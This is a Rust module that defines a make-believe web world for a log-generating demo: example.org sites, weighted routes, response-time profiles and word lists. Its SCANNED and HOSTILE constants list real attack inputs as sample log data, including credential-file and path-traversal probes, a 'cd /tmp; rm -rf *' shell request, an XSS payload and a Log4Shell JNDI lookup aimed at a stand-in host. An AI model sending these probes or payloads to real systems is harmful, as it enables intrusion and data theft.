//! The make-believe world of the demo: sites, their routes, and what scanners look for.
//!
//! Names are those set aside for documentation (RFC 2606), so that no real host is ever served.

/// How a route behaves.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    Page,
    Search,
    Checkout,
    Login,
    Api,
    Asset,
    Image,
    Feed,
    Health,
}

/// Times in milliseconds and sizes in bytes; both are log-normal around the median.
#[derive(Debug)]
pub(super) struct Manner {
    pub(super) time_ms: f64,
    pub(super) time_sigma: f64,
    pub(super) bytes: f64,
    pub(super) bytes_sigma: f64,
    /// Share answered from nginx's cache; those below zero never ask the cache.
    pub(super) cached: f64,
}

impl Kind {
    pub(super) fn manner(self) -> Manner {
        let manner = |time_ms, time_sigma, bytes, bytes_sigma, cached| Manner {
            time_ms,
            time_sigma,
            bytes,
            bytes_sigma,
            cached,
        };
        match self {
            Kind::Page => manner(38.0, 0.55, 18_000.0, 0.5, 0.35),
            Kind::Search => manner(110.0, 0.6, 24_000.0, 0.4, 0.1),
            Kind::Checkout => manner(170.0, 0.45, 900.0, 0.3, -1.0),
            Kind::Login => manner(85.0, 0.3, 600.0, 0.2, -1.0),
            Kind::Api => manner(14.0, 0.7, 1_400.0, 0.9, -1.0),
            Kind::Asset => manner(0.9, 0.6, 32_000.0, 1.0, 0.96),
            Kind::Image => manner(2.2, 0.8, 41_000.0, 0.8, 0.9),
            Kind::Feed => manner(6.0, 0.5, 52_000.0, 0.2, 0.8),
            Kind::Health => manner(0.6, 0.3, 15.0, 0.0, -1.0),
        }
    }
}

impl Kind {
    /// The content type of an answer along a path.
    pub(super) fn mime(self, path: &str) -> &'static str {
        let path = path.split('?').next().unwrap_or(path);
        match (self, path.rsplit_once('.').map(|(_, extension)| extension)) {
            (Kind::Api | Kind::Checkout | Kind::Login, _) => "application/json",
            (Kind::Health, _) => "text/plain",
            (Kind::Feed, _) => "application/rss+xml",
            (_, Some("js")) => "application/javascript",
            (_, Some("css")) => "text/css",
            (_, Some("woff2")) => "font/woff2",
            (_, Some("webp")) => "image/webp",
            (_, Some("avif")) => "image/avif",
            (_, Some("jpg")) => "image/jpeg",
            (_, Some("svg")) => "image/svg+xml",
            (_, Some("ico")) => "image/x-icon",
            (_, Some("mp4")) => "video/mp4",
            (_, Some("pdf")) => "application/pdf",
            (_, Some("txt")) => "text/plain",
            (_, Some("xml")) => "text/xml",
            _ => "text/html",
        }
    }
}

/// One kind of request a site gets. `{n}` in the path stands for a number, `{w}` for a word, `{s}`
/// for a product's name.
#[derive(Debug)]
pub(super) struct Route {
    pub(super) method: &'static str,
    pub(super) path: &'static str,
    pub(super) kind: Kind,
    pub(super) weight: f64,
}

const fn route(method: &'static str, path: &'static str, kind: Kind, weight: f64) -> Route {
    Route { method, path, kind, weight }
}

#[derive(Debug)]
pub(super) struct Site {
    pub(super) host: &'static str,
    /// Share of the visits.
    pub(super) weight: f64,
    /// What a visitor asks for himself.
    pub(super) routes: &'static [Route],
    /// What his browser asks for after a page; empty for an API.
    pub(super) assets: &'static [Route],
    pub(super) upstreams: &'static [&'static str],
}

pub(super) const SHOP: usize = 0;

pub(super) const SITES: [Site; 4] = [
    Site {
        host: "shop.example.org",
        weight: 46.0,
        routes: &[
            route("GET", "/", Kind::Page, 18.0),
            route("GET", "/products/{s}", Kind::Page, 30.0),
            route("GET", "/category/{w}", Kind::Page, 14.0),
            route("GET", "/search?q={w}", Kind::Search, 8.0),
            route("GET", "/products/{s}/reviews", Kind::Page, 3.0),
            route("GET", "/user/{n}", Kind::Page, 2.4),
            route("GET", "/user/{n}/orders", Kind::Page, 1.2),
            route("GET", "/cart", Kind::Page, 6.0),
            route("POST", "/api/cart", Kind::Api, 7.0),
            route("POST", "/api/checkout", Kind::Checkout, 3.2),
            route("GET", "/api/stock/{n}", Kind::Api, 9.0),
            route("POST", "/login", Kind::Login, 1.6),
            route("GET", "/account/orders", Kind::Page, 2.2),
            route("GET", "/reset-password?token={n}f3a91c", Kind::Page, 0.1),
        ],
        assets: &[
            route("GET", "/static/app.3f9c1b.js", Kind::Asset, 10.0),
            route("GET", "/static/app.8d02aa.css", Kind::Asset, 10.0),
            route("GET", "/static/fonts/inter-var.woff2", Kind::Asset, 5.0),
            route("GET", "/img/products/{n}.webp", Kind::Image, 26.0),
            route("GET", "/favicon.ico", Kind::Asset, 3.0),
            route("GET", "/api/recommendations?for={n}", Kind::Api, 6.0),
        ],
        upstreams: &["10.0.0.5:8080", "10.0.0.6:8080", "10.0.0.7:8080"],
    },
    Site {
        host: "www.example.org",
        weight: 29.0,
        routes: &[
            route("GET", "/", Kind::Page, 30.0),
            route("GET", "/blog/{w}", Kind::Page, 28.0),
            route("GET", "/docs/{w}", Kind::Page, 16.0),
            route("GET", "/docs/{w}.pdf", Kind::Image, 1.5),
            route("GET", "/2026/{m}/{w}", Kind::Page, 4.0),
            route("GET", "/pricing", Kind::Page, 10.0),
            route("GET", "/about", Kind::Page, 5.0),
            route("GET", "/feed.xml", Kind::Feed, 4.0),
            route("GET", "/?utm_source=newsletter&utm_campaign=autumn", Kind::Page, 3.0),
            route("GET", "/old/{w}.html", Kind::Page, 1.5),
        ],
        assets: &[
            route("GET", "/assets/site.b71c.css", Kind::Asset, 10.0),
            route("GET", "/assets/site.09ee.js", Kind::Asset, 8.0),
            route("GET", "/media/hero-{n}.avif", Kind::Image, 8.0),
            route("GET", "/favicon.svg", Kind::Asset, 3.0),
        ],
        upstreams: &["10.0.0.11:3000", "10.0.0.12:3000"],
    },
    Site {
        host: "api.example.net",
        weight: 17.0,
        routes: &[
            route("GET", "/v1/orders/{n}", Kind::Api, 26.0),
            route("GET", "/v1/orders?limit=50", Kind::Api, 14.0),
            route("POST", "/v1/events", Kind::Api, 24.0),
            route("GET", "/v1/users/{n}", Kind::Api, 16.0),
            route("PUT", "/v1/users/{n}", Kind::Api, 3.0),
            route("DELETE", "/v1/sessions/{n}", Kind::Api, 1.5),
            route("POST", "/v1/token", Kind::Login, 4.0),
            route("GET", "/v1/reports/daily", Kind::Search, 1.2),
        ],
        assets: &[],
        upstreams: &["10.0.1.21:9000", "10.0.1.22:9000"],
    },
    Site {
        host: "static.example.org",
        weight: 8.0,
        routes: &[
            route("GET", "/img/{w}-{n}.jpg", Kind::Image, 40.0),
            route("GET", "/video/{w}.mp4", Kind::Image, 3.0),
            route("GET", "/js/embed.js", Kind::Asset, 20.0),
        ],
        assets: &[],
        upstreams: &["10.0.0.31:8000"],
    },
];

/// Words that fill `{w}`; the first are the most wanted.
pub(super) const WORDS: [&str; 36] = [
    "espresso",
    "kettle",
    "grinder",
    "teapot",
    "filter",
    "mug",
    "scale",
    "roast",
    "decaf",
    "porcelain",
    "cold-brew",
    "matcha",
    "travel-mug",
    "descaler",
    "getting-started",
    "milk",
    "gift-card",
    "beans",
    "winter-sale",
    "moka",
    "tamper",
    "install",
    "syrup",
    "upgrade",
    "saucer",
    "chicory",
    "hand-mill",
    "release-notes",
    "origin-kenya",
    "latte-art",
    "recycling",
    "subscription",
    "water-hardness",
    "capsules",
    "caf%C3%A9",
    "%E3%82%B3%E3%83%BC%E3%83%92%E3%83%BC",
];

/// What stands before a word in a product's name.
pub(super) const QUALITIES: [&str; 14] = [
    "copper", "black", "small", "ceramic", "steel", "nordic", "double", "organic", "travel",
    "glass", "bamboo", "large", "classic", "matte",
];

/// What a scanner asks for.
pub(super) const SCANNED: [&str; 24] = [
    "/wp-login.php",
    "/wp-login.php",
    "/wp-login.php",
    "/xmlrpc.php",
    "/.env",
    "/.git/config",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/admin.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/actuator/health",
    "/server-status",
    "/backup.sql",
    "/config.json",
    "/.aws/credentials",
    "/owa/auth/logon.aspx",
    "/solr/admin/info/system",
    "/autodiscover/autodiscover.json",
    "/wp-content/plugins/hellopress/wp_filemanager.php",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction",
    "/shell?cd+/tmp;rm+-rf+*",
    "/../../../../etc/passwd",
];

/// Lines that come from the open internet sooner or later: request, agent, status.
pub(super) const HOSTILE: [(&str, &str, u16); 6] = [
    ("GET / HTTP/1.1", "<img src=x onerror=alert(document.domain)>", 200),
    (r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03", "-", 400),
    ("GET / HTTP/1.1", "${jndi:ldap://192.0.2.66:1389/a}", 200),
    ("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", "Mozilla/5.0 zgrab/0.x", 200),
    ("", "-", 400),
    (r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", "-", 400),
];
